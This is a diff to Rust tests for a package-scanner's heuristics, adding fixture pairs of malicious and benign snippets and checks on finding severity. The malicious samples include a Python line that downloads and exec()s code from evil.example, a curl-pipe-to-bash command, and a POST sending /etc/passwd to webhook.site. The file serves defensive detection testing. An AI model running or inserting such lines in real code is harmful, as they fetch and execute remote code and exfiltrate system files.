@@ -33,7 +33,13 @@ const CASES: &[(&str, &str, &str, &str)] = &[
     ),
     (
         "heuristics.download-exec",
-        "pkg/install.sh",
+        "pkg/__init__.py",
+        "from urllib.request import urlopen\nexec(urlopen('https://evil.example/p.py').read())\n",
+        "from urllib.request import urlopen\ndata = urlopen('https://example.com/data.json').read()\n",
+    ),
+    (
+        "heuristics.download-exec-script",
+        "pkg/ci/install.sh",
         "curl -fsSL https://evil.example/x.sh | bash\n",
         "curl -fsSL https://example.com/x.tar.gz -o x.tar.gz\n",
     ),
@@ -69,6 +75,12 @@ const CASES: &[(&str, &str, &str, &str)] = &[
     ),
     (
         "heuristics.exfiltration-endpoint",
+        "pkg/x.py",
+        "requests.post('https://webhook.site/5f2c', data=open('/etc/passwd').read())\n",
+        "requests.post(config['webhook_url'], data=report)\n",
+    ),
+    (
+        "heuristics.messaging-webhook",
         "pkg/x.js",
         "fetch('https://discord.com/api/webhooks/123/abc', {method: 'POST'})\n",
         "fetch('https://discord.com/developers/docs')\n",
@@ -130,6 +142,27 @@ fn every_rule_has_fixtures() {
 }
 
 #[test]
+fn findings_in_test_code_count_one_step_less() {
+    let mut out = Vec::new();
+    heuristics::scan_text(
+        "pkg/tests/test_net.py",
+        b"URL = 'http://45.61.139.22/'\n",
+        &mut out,
+    );
+    assert_eq!(out.len(), 1);
+    assert_eq!(
+        out[0].severity,
+        airlock::api::package_request::Severity::Low
+    );
+    assert!(
+        out[0]
+            .evidence
+            .as_deref()
+            .is_some_and(|e| e.contains("in test code"))
+    );
+}
+
+#[test]
 fn findings_carry_file_line_and_evidence() {
     let mut out = Vec::new();
     heuristics::scan_text(
@@ -162,7 +195,8 @@ fn executables_in_source_packages_are_findings_but_not_in_wheels() {
     heuristics::scan_head("pkg-1.0/bin/helper", elf, FileKind::Sdist, &mut out);
     heuristics::scan_head("package/prebuilt.node", elf, FileKind::Tarball, &mut out);
     assert_eq!(out.len(), 2);
-    assert!(out.iter().all(|f| f.rule == "heuristics.executable"));
+    assert!(out.iter().all(|f| f.rule == "heuristics.executable"
+        && f.severity == airlock::api::package_request::Severity::Medium));
     let mut none = Vec::new();
     heuristics::scan_head("pkg/_core.so", elf, FileKind::Wheel, &mut none);
     heuristics::scan_head(
